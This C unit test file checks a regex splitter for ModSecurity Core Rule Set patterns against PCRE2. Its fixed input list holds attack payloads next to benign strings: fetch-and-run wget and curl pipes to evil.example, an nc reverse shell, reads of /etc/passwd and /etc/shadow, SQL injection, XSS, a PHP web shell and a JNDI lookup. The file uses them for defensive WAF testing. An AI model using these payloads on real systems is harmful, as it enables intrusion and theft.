/* Splitting a regular expression at its alternations (rx_split.c): the pieces, together, must match
 * exactly the strings the expression matches. Checked with PCRE2 (the engine libmodsecurity runs)
 * on every long @rx of the Core Rule Set, cut into far smaller pieces than the fast path asks for so
 * that every rule of the splitter is used, against benign text, attack payloads and strings made
 * from each piece's own words; and on hand-written expressions where splitting would be wrong. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define PCRE2_CODE_UNIT_WIDTH 8
#include <pcre2.h>

#include "rx_split.h"
#include "seclang.h"

#ifndef CRS_RULES
#define CRS_RULES "/usr/share/modsecurity-crs/rules"
#endif

static pcre2_code *compile(const char *pat)
{
    int e;
    PCRE2_SIZE off;
    /* as libmodsecurity compiles @rx: DOTALL, and DOLLAR_ENDONLY off */
    return pcre2_compile((PCRE2_SPTR)pat, PCRE2_ZERO_TERMINATED, PCRE2_DOTALL, &e, &off, NULL);
}

static int matches(pcre2_code *re, const char *s, size_t len)
{
    pcre2_match_data *md = pcre2_match_data_create_from_pattern(re, NULL);
    int rc = pcre2_match(re, (PCRE2_SPTR)s, len, 0, 0, md, NULL);
    pcre2_match_data_free(md);
    assert_true(rc >= -1); /* a match, or none; never an error (match limits) */
    return rc >= 0;
}

typedef struct strs {
    char **v;
    size_t n, cap;
} strs;

static void add(strs *s, const char *text, size_t len)
{
    if (s->n == s->cap) {
        s->cap = s->cap ? 2 * s->cap : 256;
        s->v = realloc(s->v, s->cap * sizeof *s->v);
        assert_non_null(s->v);
    }
    char *c = malloc(len + 1);
    assert_non_null(c);
    memcpy(c, text, len);
    c[len] = '\0';
    s->v[s->n++] = c;
}

static void strs_free(strs *s)
{
    for (size_t i = 0; i < s->n; i++)
        free(s->v[i]);
    free(s->v);
}

static const char *const FIXED[] = {
    "",
    "Maria Costa",
    "12 oak street, porto",
    "please call me back after 3 pm on monday",
    "maria.costa123@example.com",
    "+44 20 1234 5678",
    "the blue ceramic mug arrived",
    "ls -la",
    ";ls -la /",
    "x=ls;",
    "$(cat /etc/passwd)",
    "`id`",
    "; wget http://x/y.sh|sh",
    "{ nc -e /bin/sh 10.0.0.1 4444; }",
    "|| curl evil.example | bash",
    "' OR '1'='1' --",
    "1 UNION SELECT NULL,NULL--",
    "admin'--",
    "<script>alert(1)</script>",
    "javascript:alert(1)",
    "../../etc/passwd",
    "/bin/bash -c 'echo hi'",
    "python -c 'import os'",
    "cmd.exe /c dir",
    "powershell -enc AAAA",
    "net user admin /add",
    "<?php system($_GET[0]); ?>",
    "${jndi:ldap://x/a}",
    "eval(atob('YQ=='))",
    "new Function('a')()",
    "select * from users",
    "/usr/bin/id;",
    "=whoami\n",
    "\tsh -c id",
    "'l''s' -la",
    "l\\s -la",
    "\"cat\" /etc/shadow",
};

/* Strings made from a piece's words: each word alone, after the separators the CRS's command
 * and SQL patterns look for, and before what they expect after a command. */
static void words_of(strs *out, const char *pat)
{
    static const char *const before[] = {"", ";", "=", "$(", "' "};
    static const char *const after[] = {"", " -la", "(", "\n"};
    char w[128];
    size_t n = 0;
    for (const char *p = pat;; p++) {
        int letter = *p && ((*p >= 'a' && *p <= 'z') || (*p >= 'A' && *p <= 'Z') ||
                            (*p >= '0' && *p <= '9') || *p == '_' || *p == '.' || *p == '-');
        if (*p == '[') {
            /* an optional class between letters ([\\'"]* in the CRS's command lists) */
            const char *e = p + 1;
            while (*e && *e != ']')
                e += e[0] == '\\' && e[1] ? 2 : 1;
            if (*e && (e[1] == '*' || e[1] == '?')) {
                p = e + 1;
                continue;
            }
        }
        if (*p == '\\' && p[1]) {
            p++; /* an escape ends a word, and its letter is not one */
            letter = 0;
        }
        if (letter && n < sizeof w - 1) {
            w[n++] = *p;
            continue;
        }
        if (n >= 2) {
            char s[256];
            for (size_t b = 0; b < sizeof before / sizeof *before; b++)
                for (size_t a = 0; a < sizeof after / sizeof *after; a++) {
                    int len = snprintf(s, sizeof s, "%s%.*s%s", before[b], (int)n, w, after[a]);
                    add(out, s, (size_t)len);
                }
        }
        n = 0;
        if (!*p) break;
    }
}

/* The pieces of pat (split with `limit`) match where pat does, on every string of `extra` and the
 * fixed list, and on strings made from the pieces' words. The number of pieces, or 0; *nhits: how
 * many of the strings matched. */
static int check_exact(const char *pat, size_t limit, const strs *extra, size_t *nhits)
{
    char **pieces;
    int n = waf_rx_split(pat, limit, 4096, &pieces);
    assert_true(n >= 0);
    if (n == 0) return 0;
    pcre2_code *whole = compile(pat);
    assert_non_null(whole);
    pcre2_code **res = calloc((size_t)n, sizeof *res);
    assert_non_null(res);
    strs t = {0};
    for (size_t i = 0; i < sizeof FIXED / sizeof *FIXED; i++)
        add(&t, FIXED[i], strlen(FIXED[i]));
    for (size_t i = 0; extra && i < extra->n; i++)
        add(&t, extra->v[i], strlen(extra->v[i]));
    for (int i = 0; i < n; i++) {
        res[i] = compile(pieces[i]);
        if (!res[i]) fail_msg("piece %d of %.80s does not compile: %.200s", i, pat, pieces[i]);
        words_of(&t, pieces[i]);
    }
    size_t hits = 0;
    for (size_t k = 0; k < t.n; k++) {
        size_t len = strlen(t.v[k]);
        int w = matches(whole, t.v[k], len), any = 0;
        for (int i = 0; i < n && !any; i++)
            any = matches(res[i], t.v[k], len);
        hits += w;
        if (w != any)
            fail_msg("%.80s...: the whole %s \"%s\", its %d pieces %s", pat, w ? "matches" : "does not match",
                     t.v[k], n, any ? "do" : "do not");
    }
    /* the strings reach the patterns: some match, so a piece that lost its branch would show */
    if (nhits) *nhits = hits;
    for (int i = 0; i < n; i++)
        pcre2_code_free(res[i]);
    free(res);
    pcre2_code_free(whole);
    waf_rx_split_free(pieces, n);
    strs_free(&t);
    return n;
}

static void split_pieces_are_exact_on_the_crs(void **state)
{
    (void)state;
    sl_ruleset *rs = sl_new();
    char err[512];
    assert_int_equal(sl_add_text(rs, "Include " CRS_RULES "/*.conf\n", "crs", err, sizeof err), 0);
    size_t long_ones = 0, split = 0, reached = 0;
    int most = 0;
    for (size_t i = 0; i < rs->nrules; i++) {
        for (const sl_rule *r = rs->rules[i]; r; r = r->chain) {
            if (r->kind != SL_RULE || !r->op || strcmp(r->op, "rx") != 0) continue;
            const char *pat = r->op_param;
            if (strlen(pat) < 400) continue;
            long_ones++;
            /* far smaller pieces than the fast path asks for: deeper splits, more of them */
            size_t hits = 0;
            int n = check_exact(pat, 300, NULL, &hits);
            if (n) split++;
            if (n && hits) reached++;
            if (n > most) most = n;
        }
    }
    print_message(
        "%zu long @rx in the CRS, %zu split (up to %d pieces), %zu of them matched by some string\n",
        long_ones, split, most, reached);
    assert_true(long_ones >= 20);
    assert_true(split >= long_ones / 2);
    /* the strings reach the patterns: a piece that lost a branch would show */
    assert_true(reached >= split * 3 / 4);
    sl_free(rs);
}

static void splits_where_it_may(void **state)
{
    (void)state;
    static const struct {
        const char *pat;
        size_t limit;
        const char *want[4]; /* the pieces, in order */
    } cases[] = {
        {"ab(?:cd|ef|gh)ij", 4, {"ab(?:cd)ij", "ab(?:ef)ij", "ab(?:gh)ij"}},
        /* the whole pattern's own alternation; a class and escapes are not structure */
        {"[(|)]x|\\(y\\|z\\)|(?i:w)", 4, {"[(|)]x", "\\(y\\|z\\)", "(?i:w)"}},
        /* an option set before the group, and an optional group, keep it splittable */
        {"(?i)a(?:bb|cc)?d", 4, {"(?i)a(?:bb)?d", "(?i)a(?:cc)?d"}},
        /* nested: the largest group first, then the pieces that are still too long */
        {"x(?:a(?:1|2)|bbbbbbbb)y", 6, {"x(?:a(?:1))y", "x(?:a(?:2))y", "x(?:bbbbbbbb)y"}},
    };
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
        char **p;
        int n = waf_rx_split(cases[i].pat, cases[i].limit, 16, &p), want = 0;
        while (want < 4 && cases[i].want[want])
            want++;
        assert_int_equal(n, want);
        for (int k = 0; k < n; k++)
            assert_string_equal(p[k], cases[i].want[k]);
        waf_rx_split_free(p, n);
    }
    /* short enough, or too many pieces: not split */
    char **p;
    assert_int_equal(waf_rx_split("a(?:b|c)", 100, 16, &p), 0);
    assert_int_equal(waf_rx_split("(?:a|b|c|d|e)", 2, 3, &p), 0);
}

static void refuses_where_it_would_be_wrong(void **state)
{
    (void)state;
    static const char *const wrong[] = {
        "(?:ab|cd)*e",         /* repeated: abcd matches, neither piece does */
        "(?:x(?:ab|cd))+e",    /* repeated around it */
        "(?:ab|cd){2}e",       /* counted */
        "q(?!ab|cd)",          /* negated */
        "q(?<!ab|cd)z",        /* negated behind */
        "(?:a(?i)b|c)",        /* an option carried into the next branch */
        "(a|b)x\\1",           /* a back reference */
        "(?<n>a|b)\\k<n>",     /* a named one */
        "(?|(a)|(b))",         /* branch reset */
        "(?(1)a|b)",           /* a condition */
        "(*UTF)(?:a|b)",       /* a verb */
        "\\Q(a|b)\\E(?:c|d)",  /* quoted text */
        "(?:a|b",              /* unbalanced */
        "(?>ab|a)b",           /* atomic: fails on \"ab\", (?>a)b does not */
        "(?>x(?:ab|a))b",      /* under an atomic group */
        "(?:ab|a)?+b",         /* possessive */
        "(?x)(?:a|b) # (c|d)", /* extended: a comment */
    };
    for (size_t i = 0; i < sizeof wrong / sizeof *wrong; i++) {
        char **p;
        int n = waf_rx_split(wrong[i], 1, 64, &p);
        if (n > 0) {
            /* only a split that cannot change the matches is allowed: no group above was split */
            for (int k = 0; k < n; k++)
                print_error("%s -> %s\n", wrong[i], p[k]);
            waf_rx_split_free(p, n);
            fail_msg("%s was split", wrong[i]);
        }
    }
    /* the splittable part of a pattern that also holds an unsplittable group is split */
    strs extra = {0};
    static const char *const s[] = {"abcde", "cdabe", "e", "qab", "qx", "zz1y", "x2y", "abab", "cdcd"};
    for (size_t i = 0; i < sizeof s / sizeof *s; i++)
        add(&extra, s[i], strlen(s[i]));
    assert_true(check_exact("(?:ab|cd)*e|z(?:z1|x2)y", 1, &extra, NULL) >= 2);
    assert_true(check_exact("q(?!ab|cd)(?:x|ab)", 1, &extra, NULL) == 2);
    strs_free(&extra);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(splits_where_it_may),
        cmocka_unit_test(refuses_where_it_would_be_wrong),
        cmocka_unit_test(split_pieces_are_exact_on_the_crs),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
